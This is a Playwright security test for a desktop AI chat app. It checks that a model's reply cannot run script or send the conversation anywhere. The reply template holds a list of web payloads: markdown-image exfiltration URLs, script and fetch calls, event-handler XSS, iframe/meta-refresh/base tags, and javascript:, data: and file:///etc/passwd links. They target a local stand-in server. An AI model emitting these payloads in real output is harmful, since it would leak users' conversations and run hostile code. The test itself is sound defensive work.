import { createServer } from "node:http";
import type { AddressInfo } from "node:net";
import { expect } from "@playwright/test";
import { startStandIn } from "../../src-main/demo/stand-in";
import { test } from "../desktop/desktop";

/** What a model may be talked into saying, to get a conversation out of the window; `out` is where it would go. */
const answer = (out: string) => `Before.

![leak](${out}/markdown-image?words=secret)
![leak][ref]

[ref]: ${out}/reference-image

<img src="${out}/html-image" onerror="window.sprung = 'onerror'">
<iframe src="${out}/frame"></iframe><object data="${out}/object"></object><embed src="${out}/embed">
<link rel="stylesheet" href="${out}/sheet"><link rel="prefetch" href="${out}/prefetch">
<style>body { background: url(${out}/style) }</style>
<script>window.sprung = "script"; fetch("${out}/fetch")</script>
<svg onload="window.sprung = 'svg'"><image href="${out}/svg" /></svg>
<form action="${out}/form"><input autofocus onfocus="window.sprung = 'focus'"></form>
<meta http-equiv="refresh" content="0; url=${out}/refresh"><base href="${out}/">

[javascript](javascript:window.sprung='link') [data](data:text/html,<script>1</script>) [file](file:///etc/passwd)
[web](${out}/link) <${out}/auto> ${out}/bare

\`\`\`html
<script>window.sprung = "code"</script>
\`\`\`

After.`;

test("nothing that a model says runs in the window, or takes its words anywhere", async ({ desktop }) => {
  const visits: string[] = [];
  const outside = createServer((request, response) => {
    visits.push(request.url ?? "");
    response.end();
  }).listen(0, "127.0.0.1");
  await new Promise((resolve) => outside.once("listening", resolve));
  const out = `http://127.0.0.1:${(outside.address() as AddressInfo).port}`;
  const upstream = await startStandIn({ respond: () => ({ steps: [{ text: answer(out) }] }) });
  try {
    desktop.logIn();
    const { page } = await desktop.launch({ env: { ANTHROPIC_BASE_URL: upstream.url } });
    await page.getByRole("textbox", { name: "Message" }).fill("Hi");
    await page.getByRole("button", { name: "Send" }).click();
    const log = page.getByRole("log", { name: "Conversation" });
    await expect(log).toContainText("After.");
    await expect(page.getByRole("button", { name: "Send" })).toBeVisible();

    const address = page.url();
    for (const link of await log.getByRole("link").all()) {
      expect(await link.getAttribute("href")).toMatch(/^(https?:|mailto:|#)/);
    }
    const seen = await log.evaluate((node) => ({
      sprung: (window as { sprung?: string }).sprung,
      made: [...node.querySelectorAll("script, iframe, object, embed, link, style, form, meta, base, svg image")]
        .length,
      pictures: [...node.querySelectorAll("img")].map(({ src }) => src).filter((src) => !src.startsWith("data:")),
    }));
    expect(seen).toEqual({ sprung: undefined, made: 0, pictures: [] });
    const allowed = await page.evaluate(async () => ({
      notifications: await Notification.requestPermission(),
      camera: await navigator.mediaDevices?.getUserMedia({ video: true }).then(
        () => true,
        () => false,
      ),
      worker: await navigator.serviceWorker?.register("/x.js").then(
        () => true,
        () => false,
      ),
    }));
    expect(allowed).toEqual({ notifications: "denied", camera: false, worker: false });
    expect(page.url()).toBe(address);
    expect(visits).toEqual([]);
  } finally {
    await upstream.close();
    outside.close();
  }
});
